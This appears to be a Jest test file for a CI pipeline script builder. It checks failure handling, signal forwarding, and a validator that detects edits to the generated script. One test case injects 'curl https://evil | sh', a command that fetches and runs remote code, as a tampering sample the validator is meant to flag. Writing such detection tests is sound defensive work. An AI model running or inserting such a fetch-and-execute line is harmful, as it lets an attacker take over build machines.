import { spawn, spawnSync } from "node:child_process";
import { once } from "node:events";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { always, step, withWords } from "../../../pipelines/model/jobs";
import { readScript, scriptOf } from "../../../pipelines/model/script";
import { scratch } from "../../support/run-program";

const work = scratch();
afterAll(() => work.remove());

const STEPS = [
  step("plan", "CLUSTER_NAME"),
  step("apply", "CLUSTER_NAME"),
  always(step("record")),
  always(step("tell")),
];

/** Runs a script with an npx of the test, which writes down what it is asked, and fails at one stage. */
function run(fails: string): { readonly status: number | null; readonly ran: readonly string[] } {
  const bin = join(work.path, `bin-${fails}`);
  const log = join(work.path, `log-${fails}`);
  mkdirSync(bin);
  writeFileSync(join(bin, "npx"), `#!/bin/sh\necho "$4" >> ${log}\n[ "$4" != "${fails}" ]\n`);
  chmodSync(join(bin, "npx"), 0o755);
  const script = scriptOf(STEPS, { values: {}, setUp: ["true"], last: ["echo kept"] });
  const { status } = spawnSync("/bin/sh", ["-c", script], { env: { PATH: `${bin}:${process.env["PATH"]}` } });
  return { status, ran: readFileSync(log, "utf8").trim().split("\n") };
}

test("after a failure, the steps that always run do, and the job fails", () => {
  expect(run("plan")).toEqual({ status: 1, ran: ["plan", "record", "tell"] });
});

test("a step that always runs and fails makes the job fail, and the next ones run", () => {
  expect(run("record")).toEqual({ status: 1, ran: ["plan", "apply", "record", "tell"] });
});

test("a job whose steps end well ends well", () => {
  expect(run("nothing")).toEqual({ status: 0, ran: ["plan", "apply", "record", "tell"] });
});

test("a job that is stopped asks its command to end, waits for it, and records", async () => {
  const bin = join(work.path, "bin-stopped");
  const log = join(work.path, "log-stopped");
  mkdirSync(bin);
  // As the real npx does, it ends at once and leaves the command behind.
  const npx = `[ "$4" = apply ] || { echo "$4" >> ${log}; exit 0; }
${bin}/fleet &
wait`;
  const fleet = `trap 'sleep 0.2; echo "lock released" >> ${log}; exit 143' TERM
echo started >> ${log}
while :; do sleep 0.05; done`;
  for (const [name, text] of Object.entries({ fleet, npx }))
    writeFileSync(join(bin, name), `#!/bin/sh\n${text}\n`, { mode: 0o755 });
  const script = scriptOf([step("apply"), always(step("record"))], { values: {}, setUp: [] });
  const shell = spawn("/bin/sh", ["-c", script], { env: { PATH: `${bin}:${process.env["PATH"]}` } });
  while (!existsSync(log)) await sleep(20);
  shell.kill("SIGTERM");
  const [code] = await once(shell, "exit");

  expect([code, readFileSync(log, "utf8")]).toEqual([143, "started\nlock released\nrecord\n"]);
});

const AROUND = {
  values: { BASE: "$PULL_BASE_SHA", FLEET_ID_TOKEN: "$(cat token)" },
  setUp: ["npm ci --ignore-scripts"],
  last: ["echo kept"],
};

test("a script reads back as its steps and variables", () => {
  const script = scriptOf([withWords(step("choose"), "--for", "drift"), ...STEPS], AROUND);

  expect(readScript(script, AROUND)).toEqual({
    steps: [
      { stage: "choose", words: ["--for", "drift"], evenIfFailed: false },
      { stage: "plan", words: [], evenIfFailed: false },
      { stage: "apply", words: [], evenIfFailed: false },
      { stage: "record", words: [], evenIfFailed: true },
      { stage: "tell", words: [], evenIfFailed: true },
    ],
    variables: ["BASE"],
    surprises: [],
  });
});

test.each([
  ["a line that somebody added", "npm ci", "curl https://evil | sh\nnpm ci"],
  ["another value of a variable", "$PULL_BASE_SHA", "HEAD"],
  ["a step whose failure is ignored", "fleet ci plan\n", "fleet ci plan || true\n"],
  ["a script that goes on after a failure", "set -eu\n", ""],
  ["a trap that is gone", "trap finish EXIT\n", ""],
])("a script with %s is noticed when it is read back", (_, from, to) => {
  const script = scriptOf(STEPS, AROUND).replace(from, to);

  expect(readScript(script, AROUND).surprises).toEqual([expect.stringMatching(/^script "/)]);
});
